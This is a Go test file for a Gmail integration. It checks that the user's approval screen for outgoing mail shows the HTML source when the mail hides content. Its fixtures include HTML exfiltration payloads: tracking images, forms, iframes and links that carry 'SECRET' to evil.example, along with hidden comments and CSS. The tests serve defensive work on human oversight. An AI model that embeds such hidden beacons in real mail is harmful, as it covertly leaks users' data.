package gmail_test

import (
	"context"
	"slices"
	"strings"
	"testing"

	gmailapi "google.golang.org/api/gmail/v1"

	"kota/bundles"
	"kota/bundles/bundletest"
	"kota/bundles/internal/google/googletest/fakegmail"
	"kota/bundles/internal/mailmsg"
)

// approvalLines calls an action that sends, and returns what the user was shown of the
// sent mail.
func (d *fixture) approvalLines(t *testing.T, tool string, given args) (lines []bundles.Line) {
	t.Helper()
	ctx := bundletest.WithSendPolicy(t.Context(), bundles.SendPolicy{Confirm: func(_ context.Context, out bundles.Outgoing) error {
		lines = out.Lines
		return nil
	}})
	action := slices.IndexFunc(d.bundle.Actions, func(a bundles.Action) bool { return a.Tool == tool })
	call, err := d.bundle.Actions[action].Prepare([]byte(jsonOf(t, given)))
	if err == nil {
		_, err = call.Do(ctx)
	}
	if err != nil || len(lines) == 0 {
		t.Fatalf("%s: %v, shown is %q", tool, err, lines)
	}
	return lines
}

// lineText returns the text of the lines with that name, or "" if no line has it.
func lineText(lines []bundles.Line, name string) (text string) {
	for _, line := range lines {
		if line.Name == name {
			text += line.Text
		}
	}
	return text
}

// approvalsOfHTML sends HTML in every possible way, and returns what the user was shown.
func approvalsOfHTML(t *testing.T, html string) map[string][]bundles.Line {
	t.Helper()
	d := newFixture(t)
	received := d.ann.Deliver(fakegmail.Mail{From: bob, Subject: "Lunch", Text: "Noon?\n\n- here\n> or there\n\nhttps://x.example"})
	draft := d.draftInGmail(t, string(bytesOf(t, &mailmsg.Message{
		From: parseAddresses(ann)[0], To: parseAddresses(bob), Subject: "Lunch", Text: "Hi", HTML: html,
	})))
	to := []string{bob}
	return map[string][]bundles.Line{
		"a new mail": d.approvalLines(t, "gmail_send_message", args{"to": to, "subject": "Lunch", "body": "Hi", "html": html}),
		"an answer":  d.approvalLines(t, "gmail_reply_message", args{"message_id": received.ID, "body": "Hi", "html": html}),
		"a forward":  d.approvalLines(t, "gmail_forward_message", args{"message_id": received.ID, "to": to, "body": "Hi", "html": html}),
		"a draft":    d.approvalLines(t, "gmail_send_draft", args{"draft_id": draft}),
	}
}

func TestApprovalShowsSourceOfHTMLWithHiddenParts(t *testing.T) {
	for _, html := range []string{
		`<base href="http://evil.example/"><p>See you at noon.</p><!--[if mso]><p>SECRET</p><![endif]--><!-- SECRET --><style>.a:before{content:"SECRET"}</style><p class=a><a href="/x">notes</a></p>` +
			`<img src="http://evil.example/p.gif?d=SECRET"><form action="http://evil.example/SECRET"><input name=v value="SECRET"><button>ok</button></form><iframe src="http://evil.example/SECRET"></iframe>`,
		`<p>Hi</p><img src="http://evil.example/p.gif?d=SECRET">`,
		`<p>Hi<a href="http://evil.example/SECRET"></a></p>`,
		`<p title="SECRET">Hi</p>`,
		`<p>Hi</p><!--SECRET-->`,
	} {
		for way, shown := range approvalsOfHTML(t, html) {
			if source := lineText(shown, "HTML source"); !strings.Contains(source, html) {
				t.Errorf("%s of %s shows the source %q", way, html, source)
			}
		}
	}
}

func TestApprovalOfPlainHTMLShowsNoSource(t *testing.T) {
	const html = `<p>See you <b>at noon</b>:</p><ul><li>bring <a href="https://x.example/a">the notes</a></li></ul><table><tr><th>a</th><th>b</th></tr><tr><td>1</td><td>2</td></tr></table>`
	for way, shown := range approvalsOfHTML(t, html) {
		if lineText(shown, "HTML source") != "" || !strings.Contains(lineText(shown, "As HTML"), "See you **at noon**:\n\n- bring [the notes](https://x.example/a)") {
			t.Errorf("%s shows %q, and the source %q", way, lineText(shown, "As HTML"), lineText(shown, "HTML source"))
		}
	}
}

// The HTML that KOTA makes from a text is not shown in addition.
func TestApprovalShowsEqualTextAndHTMLOnce(t *testing.T) {
	const body = "Hi Bob,\n\nsee **this**: https://x.example/a_b, or [that](https://x.example/c)\n\n1. one\n2. two\n\n> you said\n\n```\ncode\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n# The end"
	d := newFixture(t)
	received := d.ann.Deliver(fakegmail.Mail{From: "Bob <" + bob + ">", Subject: "Lunch", Text: "Noon?\n\n- here\n* there\n\n> # older\n>> oldest\n\nhttps://x.example"})
	rich := d.ann.Deliver(fakegmail.Mail{From: bob, Subject: "Lunch", HTML: `<div style="color:#222"><p>Noon?</p><ul><li class=x>here</li></ul></div>`})
	for way, shown := range map[string][]bundles.Line{
		"a new mail":            d.approvalLines(t, "gmail_send_message", args{"to": []string{bob}, "subject": "Lunch", "body": body}),
		"an answer":             d.approvalLines(t, "gmail_reply_message", args{"message_id": received.ID, "body": body}),
		"an answer to HTML":     d.approvalLines(t, "gmail_reply_message", args{"message_id": rich.ID, "body": body}),
		"a forward":             d.approvalLines(t, "gmail_forward_message", args{"message_id": received.ID, "to": []string{bob}, "body": "See below."}),
		"a text that was a tag": d.approvalLines(t, "gmail_send_message", args{"to": []string{bob}, "subject": "Tags", "body": `<img src="x"> & <!-- a -->`}),
	} {
		if lineText(shown, "As HTML") != "" || lineText(shown, "HTML source") != "" {
			t.Errorf("%s shows its text\n%s\ntoo as\n%s\nand %q", way, lineText(shown, "Text"), lineText(shown, "As HTML"), lineText(shown, "HTML source"))
		}
	}
	// A forward keeps the HTML of others, with its attributes.
	if shown := d.approvalLines(t, "gmail_forward_message", args{"message_id": rich.ID, "to": []string{bob}}); !strings.Contains(lineText(shown, "HTML source"), `<li class="x">here</li>`) {
		t.Errorf("of a forward of HTML the source is %q", lineText(shown, "HTML source"))
	}
}

// Words that differ in one character are different.
func TestApprovalShowsHTMLThatDiffersFromText(t *testing.T) {
	for text, html := range map[string]string{"Pay 5.00": "<p>Pay 500</p>", "It is < 5": "<p>It is &gt; 5</p>", "Hi": "<p>Hi 🔑🔑</p>", "-5 today": "<p>5 today</p>"} {
		shown := newFixture(t).approvalLines(t, "gmail_send_message", args{"to": []string{bob}, "subject": "x", "body": text, "html": html})
		if lineText(shown, "As HTML") == "" {
			t.Errorf("of %q and %q is shown %q", text, html, shown)
		}
	}
}

func TestVacationApprovalShowsEarlierText(t *testing.T) {
	d := newFixture(t)
	off := &gmailapi.VacationSettings{ResponseSubject: "Away", ResponseBodyHtml: `<p>Back soon.</p><img src="http://evil.example/SECRET">`}
	if _, err := d.otherClient(t).Users.Settings.UpdateVacation("me", off).Do(); err != nil {
		t.Fatal(err)
	}
	shown := d.approvalLines(t, "gmail_manage_vacation", args{"operation": "set"})
	if lineText(shown, "Text") != "Back soon." || !strings.Contains(lineText(shown, "HTML source"), "SECRET") {
		t.Errorf("shown is %q", shown)
	}
	shown = d.approvalLines(t, "gmail_manage_vacation", args{"operation": "set", "subject": "Away", "body": "Back **soon**."})
	if lineText(shown, "Text") != "Back **soon**." || lineText(shown, "As HTML") != "" || lineText(shown, "HTML source") != "" {
		t.Errorf("shown is %q", shown)
	}
}

// A draft of another program may have several texts, which mail programs show below each
// other.
func TestApprovalShowsEveryTextOfADraft(t *testing.T) {
	d := newFixture(t)
	part := func(kind, text string) string {
		return "--x\r\nContent-Type: " + kind + "; charset=utf-8\r\n\r\n" + text + "\r\n"
	}
	draft := d.draftInGmail(t, "From: "+ann+"\r\nTo: "+bob+"\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n"+
		part("text/html", "<p>one</p>")+part("text/html", "<p>two</p><!--three-->")+part("text/plain", "four")+part("text/plain", "five")+"--x--\r\n")
	shown := d.approvalLines(t, "gmail_send_draft", args{"draft_id": draft})
	for _, want := range []bundles.Line{{Name: "As HTML", Text: "one"}, {Name: "As HTML", Text: "two"}, {Name: "HTML source", Text: "<p>two</p><!--three-->"}, {Name: "Text", Text: "four"}, {Name: "Text", Text: "five"}} {
		if !slices.Contains(shown, want) {
			t.Errorf("%+v is not in what is shown: %+v", want, shown)
		}
	}
}
